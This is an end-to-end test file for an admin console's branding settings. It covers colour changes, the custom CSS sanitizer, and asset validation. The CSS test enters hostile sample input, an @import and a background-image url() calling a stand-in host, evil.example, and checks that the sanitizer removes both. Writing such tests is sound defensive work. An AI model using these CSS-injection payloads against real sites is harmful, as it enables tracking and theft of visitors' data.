import { createServer, type Server } from 'node:http'
import { eq } from 'drizzle-orm'
import type { Browser, BrowserContext, FrameLocator, Locator } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { openLibsql } from '../worker/src/db/node'
import { programTemplateDetails } from '../worker/src/db/schema'
import type { startNodeServer } from './harness'
import { startConsoleWorld, stopConsoleWorld } from './console-audit'

// Issue 25: the demo as seeded (nothing patched in), as a new operator tries it: sign in as
// admin@tessera.dev, Settings > Branding, change the primary colour on the Colors section, Save. It
// saves (the seed holds every asset the form requires) and the participant site shows the colour, and
// so do the widgets a partner embeds on its own page (elements and iframe). Then custom CSS saved on
// the CSS section: its safe rules reach the site (and the widgets, scoped to their shadow roots), an
// @import and another site's url() do not. Last, with the overlay image gone, the failed save opens
// the Assets section at that field.
const NEW_PRIMARY = '#b4235a'
const NEW_PRIMARY_RGB = 'rgb(180, 35, 90)'

let dir: string
let server: Awaited<ReturnType<typeof startNodeServer>>
let browser: Browser
let db: Awaited<ReturnType<typeof openLibsql>>['db']
let admin: BrowserContext
let demoId: number
let partner: Server | undefined
let partnerUrl: string

/**
 * A partner's page on another origin (e2e/embed.test.ts has the full set): the script-tag loader with
 * a sign-in element, and the same widget in iframe mode (its call in a script file of the partner's).
 */
function startPartner(tesseraUrl: string): Promise<string> {
  partner = createServer((req, res) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname
    if (path === '/') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' })
      res.end(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Partner</title>
<script src="${tesseraUrl}/embed.js" data-program="demo" async></script><script src="/frame.js"></script></head>
<body><main><h1>Ember &amp; Oak partner shop</h1><tessera-signin></tessera-signin><div id="framed"></div></main></body></html>`)
    } else if (path === '/frame.js') {
      res.writeHead(200, { 'content-type': 'text/javascript; charset=utf-8', 'cache-control': 'no-store' })
      res.end(`window.Tessera = window.Tessera || function () { (Tessera.q = Tessera.q || []).push(arguments) }
Tessera('iframe', { widget: 'signin', target: '#framed', title: 'Ember & Oak rewards' })`)
    } else {
      res.writeHead(path === '/favicon.ico' ? 204 : 404)
      res.end()
    }
  })
  return new Promise((resolve) => partner!.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(partner!.address() as { port: number }).port}`)))
}

beforeAll(async () => {
  ;({ dir, server, browser, db, demoId, admin } = await startConsoleWorld('branding-demo'))
  partnerUrl = await startPartner(server.url)
}, 120_000)
afterAll(async () => {
  await new Promise((r) => (partner ? partner.close(r) : r(undefined)))
  await stopConsoleWorld({ browser, server, dir })
})

/** The sign-in widget's primary button, whose background is the program's primary colour. */
const continueButton = (scope: Locator | FrameLocator): Locator => scope.getByRole('button', { name: 'Continue to get your login code' })

/** The partner's page in a new visitor context: both widgets rendered. */
async function openPartner() {
  const visitor = await browser.newContext({ viewport: { width: 1280, height: 900 }, reducedMotion: 'reduce' })
  const page = await visitor.newPage()
  await page.goto(partnerUrl)
  const element = continueButton(page.locator('tessera-signin'))
  const frame = page.frameLocator('#framed iframe')
  await element.waitFor()
  await continueButton(frame).waitFor()
  return { visitor, page, element, frame }
}

/** Settings > Branding, on one section, in a new console page. */
async function openBranding(section: string) {
  const page = await admin.newPage()
  await page.goto(`${server.url}/admin/v2/programs/${demoId}/settings/branding/${section}`)
  await page.getByRole('button', { name: 'Save' }).waitFor()
  return page
}

describe('the demo program’s branding, as seeded', () => {
  it('saves a new primary colour from the Colors section; the participant site and a partner’s widgets show it', async () => {
    const page = await admin.newPage()
    await page.goto(`${server.url}/admin/v2/programs/${demoId}/dashboard`)
    await page.getByRole('button', { name: 'Settings' }).click()
    // (The menu runs past a 900 px viewport: the entry is chosen with the keyboard.)
    await page.getByRole('menuitem', { name: 'Branding' }).focus()
    await page.keyboard.press('Enter')
    await page.waitForURL(/\/settings\/branding\/colors$/)

    await page.getByRole('textbox', { name: 'Primary', exact: true }).fill(NEW_PRIMARY)
    await page.getByRole('button', { name: 'Save' }).click()
    await page.getByText('The program has been updated.').waitFor()
    expect(page.url()).toMatch(/\/settings\/branding\/colors$/)
    await page.close()

    const visitor = await browser.newContext({ viewport: { width: 1280, height: 900 } })
    const site = await visitor.newPage()
    await site.goto(`${server.url}/?program=demo`)
    await site.locator('.site-header').waitFor()
    expect(await site.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--perk-primary').trim())).toBe(NEW_PRIMARY)
    await visitor.close()

    // A partner's page on another origin: the element (shadow root) and the iframe widget both draw
    // their primary button in the new colour.
    const embed = await openPartner()
    const background = (button: Locator) => button.evaluate((el) => getComputedStyle(el).backgroundColor)
    await expect.poll(() => background(embed.element)).toBe(NEW_PRIMARY_RGB)
    await expect.poll(() => background(continueButton(embed.frame))).toBe(NEW_PRIMARY_RGB)
    expect(await embed.page.locator('tessera-signin').evaluate((el) => getComputedStyle(el).getPropertyValue('--perk-primary').trim())).toBe(NEW_PRIMARY)
    await embed.visitor.close()
  }, 60_000)

  it('saves custom CSS: its safe rules reach the participant site and the widgets, an @import and another site’s url() do not', async () => {
    const page = await openBranding('css')
    const css = page.getByRole('textbox', { name: 'Custom CSS' })
    await css.fill(
      [
        '@import url("https://evil.example/steal.css");',
        ':root { --e2e-brand-mark: 7px; }',
        '.site-header { border-bottom: 5px solid rgb(18, 52, 86); }',
        '.site-footer { background-image: url("https://evil.example/pixel.png"); }',
      ].join('\n'),
    )
    // The server's sanitizer says what it will drop, as the CSS is typed.
    const removed = page.getByRole('status').filter({ hasText: 'Removed when saved:' })
    await removed.getByText(/^@import .*evil\.example\/steal\.css/).waitFor()
    await removed.getByText(/^background-image:.*evil\.example\/pixel\.png/).waitFor()
    await page.getByRole('button', { name: 'Save' }).click()
    await page.getByText('The program has been updated.').waitFor()
    // The form shows what was stored: the safe rules only.
    await expect.poll(() => css.inputValue()).not.toContain('evil.example')
    expect(await css.inputValue()).toContain('.site-header')
    await page.close()

    const visitor = await browser.newContext({ viewport: { width: 1280, height: 900 } })
    const site = await visitor.newPage()
    await site.goto(`${server.url}/?program=demo`)
    const header = site.locator('.site-header')
    await header.waitFor()
    const served = (await site.locator('#tessera-program-css').textContent()) ?? ''
    expect(served).toContain('.site-header')
    expect(served).not.toContain('evil.example')
    expect(served).not.toContain('@import')
    expect(await header.evaluate((el) => [getComputedStyle(el).borderBottomWidth, getComputedStyle(el).borderBottomColor])).toEqual(['5px', 'rgb(18, 52, 86)'])
    expect(await site.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--e2e-brand-mark').trim())).toBe('7px')
    expect(await site.locator('.site-footer').evaluate((el) => getComputedStyle(el).backgroundImage)).toBe('none')
    await visitor.close()

    // In a widget the document's `:root` rule applies to the element's own root (:host), not the page.
    const embed = await openPartner()
    const host = embed.page.locator('tessera-signin')
    await expect.poll(() => host.evaluate((el) => getComputedStyle(el).getPropertyValue('--e2e-brand-mark').trim())).toBe('7px')
    expect(await embed.page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--e2e-brand-mark'))).toBe('')
    await embed.visitor.close()
  }, 60_000)

  it('without an overlay image, a failed save names Assets and the field, opens Assets and focuses the field', async () => {
    await db.update(programTemplateDetails).set({ overlayImage: null }).where(eq(programTemplateDetails.programId, demoId))
    const page = await admin.newPage()
    await page.goto(`${server.url}/admin/v2/programs/${demoId}/settings/branding/colors`)
    await page.getByRole('textbox', { name: 'Primary', exact: true }).fill('#123456')
    await page.getByRole('button', { name: 'Save' }).click()

    await page.getByText('Assets: Overlay image is required').waitFor()
    await page.waitForURL(/\/settings\/branding\/assets$/)
    const overlay = page.getByRole('group', { name: 'Overlay image' })
    await overlay.getByText('Overlay image is required').waitFor()
    const choose = overlay.getByRole('button', { name: 'Choose from library' })
    await expect.poll(() => choose.evaluate((el) => el === document.activeElement)).toBe(true)
    await page.close()
  }, 60_000)
})
